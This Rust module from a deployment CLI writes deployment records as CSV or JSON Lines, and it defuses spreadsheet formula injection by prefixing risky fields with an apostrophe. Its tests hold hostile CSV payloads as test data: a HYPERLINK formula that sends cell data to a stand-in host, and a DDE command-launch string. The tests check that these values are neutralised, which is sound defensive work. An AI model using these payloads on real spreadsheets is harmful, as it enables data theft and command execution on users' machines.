//! Rows of deployments for analysis: CSV with a column for each fact, or a JSON object for each line.

use clap::ValueEnum;
use jiff::Timestamp;

use crate::api::deployments::DeploymentSummary;
use crate::cli::error::CliError;
use crate::cli::verbatim::Verbatim;
use crate::model::deploy_clock::{DeployInterval, DeployMark};

/// The format of rows.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(super) enum RowFormat {
    /// Comma-separated values with a header (RFC 4180).
    Csv,
    /// A JSON object for each line.
    Jsonl,
}

/// The columns before those of the deploy clock.
const COLUMNS: [&str; 18] = [
    "id",
    "state",
    "app",
    "target",
    "repository",
    "commit",
    "ref",
    "tag",
    "actor",
    "description",
    "automatic",
    "production",
    "rollback_to",
    "received_at",
    "pushed_at",
    "finished_at",
    "attempts",
    "summary",
];

impl RowFormat {
    /// Returns the text before the first row.
    pub(super) fn header(self) -> String {
        match self {
            Self::Jsonl => String::new(),
            Self::Csv => {
                let marks = DeployMark::ALL.iter().flat_map(|mark| {
                    [format!("mark_{}", mark.as_str()), format!("clock_{}", mark.as_str())]
                });
                let intervals = DeployInterval::ALL.iter().flat_map(|interval| {
                    let name = interval.as_str();
                    [format!("{name}_millis"), format!("{name}_skew_millis")]
                });
                let columns = COLUMNS.map(str::to_owned).into_iter().chain(marks).chain(intervals);
                line(columns)
            }
        }
    }

    /// Returns the rows of deployments.
    pub(super) fn rows(
        self,
        deployments: Vec<Verbatim<DeploymentSummary>>,
    ) -> Result<String, CliError> {
        match self {
            Self::Csv => {
                Ok(deployments.iter().map(|deployment| line(fields(deployment))).collect())
            }
            Self::Jsonl => deployments.into_iter().map(json_line).collect(),
        }
    }
}

/// Writes a deployment as the service sent it, with its intervals.
fn json_line(mut deployment: Verbatim<DeploymentSummary>) -> Result<String, CliError> {
    let intervals = serde_json::to_value(deployment.marks.intervals());
    deployment.set("intervals", intervals.map_err(CliError::failed)?);
    let json = serde_json::to_string(&deployment).map_err(CliError::failed)?;
    Ok(json + "\n")
}

/// Names every field of the answer, so that a new field asks here whether to be a column.
fn fields(deployment: &DeploymentSummary) -> Vec<String> {
    let DeploymentSummary {
        id,
        state,
        app,
        target,
        repository,
        commit,
        git_ref,
        tag,
        actor,
        description,
        forge_id: _,
        automatic,
        rollback,
        rollout: _,
        fleet: _,
        app_name: _,
        all_apps: _,
        parent: _,
        received_at,
        pushed_at,
        finished_at,
        marks,
        summary,
        waiting: _,
        template: _,
        templates_commit: _,
        address: _,
        production,
        attempts,
        errors: _,
        warnings: _,
        pushed: _,
    } = deployment;
    let time = |at: &Option<Timestamp>| at.map(|at| at.to_string()).unwrap_or_default();
    let mut fields = vec![
        id.clone(),
        state.as_str().to_owned(),
        app.clone().unwrap_or_default(),
        target.clone(),
        repository.clone(),
        commit.clone(),
        git_ref.clone(),
        tag.clone(),
        actor.clone(),
        description.clone(),
        automatic.to_string(),
        production.to_string(),
        rollback.as_ref().map(|rollback| rollback.to.clone()).unwrap_or_default(),
        received_at.to_string(),
        time(pushed_at),
        time(finished_at),
        attempts.to_string(),
        summary.clone(),
    ];
    for mark in DeployMark::ALL {
        let mark_time = marks.get(mark);
        fields.push(mark_time.map(|time| time.at.to_string()).unwrap_or_default());
        fields.push(mark_time.map(|time| time.clock.as_str().to_owned()).unwrap_or_default());
    }
    for interval in DeployInterval::ALL {
        let length = marks.interval(interval);
        let number = |number: Option<u64>| number.map(|n| n.to_string()).unwrap_or_default();
        fields.push(number(length.and_then(|time| time.millis)));
        fields.push(number(length.and_then(|time| time.skew_millis)));
    }
    fields
}

fn line(fields: impl IntoIterator<Item = String>) -> String {
    let fields: Vec<String> = fields.into_iter().map(|field| quote(&field)).collect();
    fields.join(",") + "\n"
}

/// Quotes a field where it must be. A spreadsheet runs a field that begins like a formula, in quotes or not, so such a
/// field gets an apostrophe in front, which spreadsheets take for text.
fn quote(field: &str) -> String {
    let is_formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let is_special = is_formula || field.contains([',', '"', '\n', '\r']);
    if !is_special {
        return field.to_owned();
    }
    let apostrophe = if is_formula { "'" } else { "" };
    format!("\"{apostrophe}{}\"", field.replace('"', "\"\""))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn deployment(description: &str) -> Verbatim<DeploymentSummary> {
        let json = serde_json::json!({
            "id": "20261121-115900000-3f9a2c", "state": "succeeded", "app": "devx/shop",
            "target": "prod-cluster-1", "repository": "acme/shop", "tag": "1.10", "actor": "jo",
            "description": description, "template": null, "summary": "pushed, \"all\" of it",
            "received_at": "2026-11-21T09:00:00Z", "finished_at": null, "errors": 0, "warnings": 0,
            "later": "a key of a newer service",
            "marks": [
                {"mark": "requested", "at": "2026-11-21T08:59:58Z", "clock": "code_host", "ahead_millis": 0},
                {"mark": "received", "at": "2026-11-21T09:00:00Z", "clock": "service", "ahead_millis": 0},
                {"mark": "pushed", "at": "2026-11-21T09:00:04.6Z", "clock": "service", "ahead_millis": 0},
                {"mark": "synced", "at": "2026-11-22T09:00:30Z", "clock": "cluster", "ahead_millis": 86_400_000},
            ],
        });
        serde_json::from_value(json).unwrap()
    }

    /// Reads a line as a spreadsheet does.
    fn parse(line: &str) -> Vec<String> {
        let (mut fields, mut field, mut quoted) = (Vec::new(), String::new(), false);
        let mut chars = line.trim_end_matches('\n').chars().peekable();
        while let Some(c) = chars.next() {
            match c {
                '"' if quoted && chars.peek() == Some(&'"') => field.extend(chars.next()),
                '"' => quoted = !quoted,
                ',' if !quoted => fields.push(std::mem::take(&mut field)),
                c => field.push(c),
            }
        }
        fields.push(field);
        fields
    }

    #[test]
    fn a_row_has_a_field_for_each_column() {
        let header = parse(&RowFormat::Csv.header());
        let row = RowFormat::Csv.rows(vec![deployment("for the fair")]).unwrap();
        let row = parse(&row);
        assert_eq!(header.len(), row.len());
        let field = |name: &str| {
            let place = header.iter().position(|column| column == name);
            row[place.unwrap_or_else(|| panic!("{name}: {header:?}"))].as_str()
        };
        assert_eq!(field("summary"), "pushed, \"all\" of it");
        assert_eq!(
            (field("mark_requested"), field("clock_requested")),
            ("2026-11-21T08:59:58Z", "code_host")
        );
        assert_eq!((field("deployer_millis"), field("deployer_skew_millis")), ("4600", ""));
        assert_eq!((field("total_millis"), field("total_skew_millis")), ("", "86400000"));
        assert_eq!((field("pickup_millis"), field("mark_sync_began")), ("", ""));
    }

    #[test]
    fn no_field_is_a_formula_and_none_breaks_its_row() {
        for hostile in [
            "=HYPERLINK(\"https://evil.example.com?\"&A1,\"x\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            let row = RowFormat::Csv.rows(vec![deployment(hostile)]).unwrap();
            let fields = parse(&row);
            assert_eq!(fields[9], format!("'{hostile}"), "{row}");
            assert_eq!(fields.len(), parse(&RowFormat::Csv.header()).len());
        }
        for odd in ["a,b", "say \"no\"", "two\nlines", "plain", "a=b", ""] {
            let row = RowFormat::Csv.rows(vec![deployment(odd)]).unwrap();
            assert_eq!(parse(&row)[9], odd, "{row}");
        }
    }

    #[test]
    fn a_line_of_json_is_what_the_service_sent_with_the_intervals() {
        assert_eq!(RowFormat::Jsonl.header(), "");
        let rows = RowFormat::Jsonl.rows(vec![deployment("=1"), deployment("two\nlines")]).unwrap();
        let rows: Vec<serde_json::Value> =
            rows.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(
            (&rows[0]["description"], &rows[0]["later"]),
            (&"=1".into(), &"a key of a newer service".into())
        );
        assert_eq!(rows[0]["intervals"][0]["millis"], 4600);
        assert_eq!(rows[0]["intervals"][1]["skew_millis"], 86_400_000);
    }
}
